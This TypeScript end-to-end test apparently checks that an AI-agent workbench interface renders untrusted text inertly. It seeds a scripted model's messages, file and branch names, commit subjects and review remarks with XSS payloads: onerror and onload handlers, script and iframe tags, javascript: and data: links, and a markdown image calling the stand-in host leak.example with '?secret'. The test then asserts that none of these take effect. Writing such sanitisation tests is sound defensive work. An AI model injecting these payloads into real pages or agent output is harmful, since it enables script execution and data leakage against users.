/**
 * What agents, repositories and colleagues write is shown as they wrote it, and does nothing.
 *
 * Each text says `…-evil`, and the test waits for that word on the screen: what is not shown cannot be safe there.
 */
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { ModelScript } from "../support/model-server.ts";
import { closeBrowser, type OpenedWorkbench, openWorkbench } from "../support/browser.ts";
import { carryOut, openWorld, type StoryWorld } from "../support/story.ts";
import { frame } from "../support/story-world.ts";
import { writeFiles } from "../support/temporary-repository.ts";

/** As short as a name of a file and of a branch can hold it. */
const IMAGE = "<img/src=x/onerror=window.pwned=1>";
const MARKUP = `<img src="https://leak.example/tag.png" onerror="window.pwned=1"><script>window.pwned=1</script><iframe src="https://leak.example/frame"></iframe><svg onload="window.pwned=1"></svg>`;
const MARKDOWN = `![leak](https://leak.example/picture.png?secret) [press](javascript:window.pwned=1) [data](data:text/html,<script>alert(1)</script>) <https://leak.example/auto>`;

/** A text for one place. */
function evil(where: string): string {
  return `${where}-evil ${MARKUP} ${MARKDOWN}`;
}

const FILE = `src/${IMAGE.replaceAll("/", " ")}named-evil.js`;
const BRANCH = `branch-evil${IMAGE}`;
const REQUEST = `Titled-evil ${IMAGE} of the greeting in the library`;
const QUESTION = "Wait for a word about the farewell in the library.";

const script: ModelScript = {
  turns: [
    {
      when: "Wait for a word",
      steps: [{ calls: [{ tool: "ask_human", arguments: { question: evil("asked") } }] }],
    },
    {
      when: "Titled-evil",
      steps: [
        {
          say: evil("spoken"),
          calls: [
            {
              tool: "write",
              arguments: {
                path: FILE,
                content: `// ${evil("written")}\nexport const a = "</script>";\n`,
              },
            },
          ],
        },
        { calls: [{ tool: "report_done", arguments: { summary: evil("reported") } }] },
      ],
    },
  ],
};

let folder = "";
let world: StoryWorld;
let bench: OpenedWorkbench;
let brief = "";
let run = "";

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), "tacit-safety-"));
  writeFiles(path.join(folder, "library"), {
    "package.json": '{ "name": "library", "scripts": { "test": "true" } }\n',
    "src/hello.js": "export const hello = 'hello';\n",
    ".tacit/context/conventions/entered.md": `---\nkind: convention\nstatus: active\ntitle: ${JSON.stringify(`Entered-evil ${MARKUP}`)}\nscope: ["src/**"]\n---\n\n${evil("explained")}\n`,
  });
  writeFiles(folder, { "script.json": JSON.stringify(script) });
  world = await openWorld({
    sample: path.join(folder, "library"),
    script: path.join(folder, "script.json"),
  });
  await world.git("switch", "-qc", BRANCH);
  writeFiles(world.repository, {
    "src/hello.js": `export const hello = \`${evil("branched")}\`;\n`,
  });
  await world.git("commit", "-qam", evil("subject"));
  await world.git("switch", "-q", "main");
  brief = await frame(world, `${REQUEST}\n\n${evil("requested")}`);
  ({ run } = await carryOut(world, brief));
  await world.json(["review", run, "--remark", `${FILE}:1`, evil("remarked")]);
  await world.json(["review", run, "--remark", "change", evil("overall")]);
  await world.json(["review", `main..${BRANCH}`, "--remark", "change", evil("compared")]);
  await world.json(["run", await frame(world, QUESTION)]);
  bench = await openWorkbench(world);
});
afterAll(async () => {
  await closeBrowser();
  await world.remove();
  await rm(folder, { recursive: true, force: true });
});

/** Elements, in shadow roots as well, that a text could only have made by being taken for markup. */
const MADE = `(() => {
  const roots = [document, ...[...document.querySelectorAll("*")].map((each) => each.shadowRoot)];
  const all = roots.filter((root) => root !== null).flatMap((root) => [...root.querySelectorAll("*")]);
  const bad = (element) =>
    ["IFRAME", "OBJECT", "EMBED", "IMG"].includes(element.tagName) ||
    (element.tagName === "SCRIPT" && element.src === "") ||
    element.getAttributeNames().some((name) => name.startsWith("on")) ||
    (element.tagName === "A" && !/^https?:$/.test(new URL(element.href).protocol));
  return all.filter(bad).map((element) => element.outerHTML.slice(0, 200));
})()`;

async function shows(where: string, ...words: readonly string[]): Promise<Page> {
  const { page, origin } = bench;
  await page.goto(origin + where);
  for (const word of words) {
    // oxlint-disable-next-line no-await-in-loop -- one word after another
    await page.getByText(word).filter({ visible: true }).first().waitFor();
  }
  return page;
}

/** What the texts brought about since the beginning. */
async function harm(): Promise<readonly string[]> {
  const made = await bench.page.evaluate<readonly string[]>(MADE);
  const ran = await bench.page.evaluate<boolean>("window.pwned !== undefined");
  return [...made, ...(ran ? ["a script ran"] : []), ...bench.noise];
}

const project = "/p/canvas-editor";

test("on Home, a title and a question", async () => {
  await shows("/", "Titled-evil", "asked-evil");
  expect(await harm()).toEqual([]);
});

test("among the runs, titles and the name of a branch", async () => {
  await shows(`${project}/runs`, "Titled-evil", "branch-evil");
  expect(await harm()).toEqual([]);
});

test("in a transcript, what the agent said, wrote and reported", async () => {
  await shows(`${project}/runs/${run}`, "spoken-evil", "named-evil", "reported-evil");
  expect(await harm()).toEqual([]);
});

test("in a review, the name of a file, its lines and what was remarked", async () => {
  const words = ["named-evil", "written-evil", "remarked-evil", "overall-evil"];
  await shows(`${project}/runs/${run}/review`, ...words);
  expect(await harm()).toEqual([]);
});

test("in the review of a branch, its name and its lines", async () => {
  const range = `from=main&of=${encodeURIComponent(BRANCH)}`;
  await shows(`${project}/change?${range}`, "branch-evil", "branched-evil");
  expect(await harm()).toEqual([]);
});

test("in briefs, titles and what was asked for", async () => {
  await shows(`${project}/briefs`, "Titled-evil");
  expect(await harm()).toEqual([]);
  await shows(`${project}/briefs/${brief}`, "Titled-evil", "requested-evil");
  expect(await harm()).toEqual([]);
});

test("in the context, an entry", async () => {
  await shows(`${project}/context`, "Entered-evil");
  expect(await harm()).toEqual([]);
  await shows(`${project}/context/entered`, "Entered-evil", "explained-evil");
  expect(await harm()).toEqual([]);
});

test("in the palette, whatever can be found", async () => {
  const page = await shows("/", "Titled-evil");
  await page.keyboard.press("Control+k");
  await page.getByRole("dialog").getByText("Titled-evil").first().waitFor();
  await page.getByRole("dialog").getByText("Entered-evil").first().waitFor();
  expect(await harm()).toEqual([]);
});
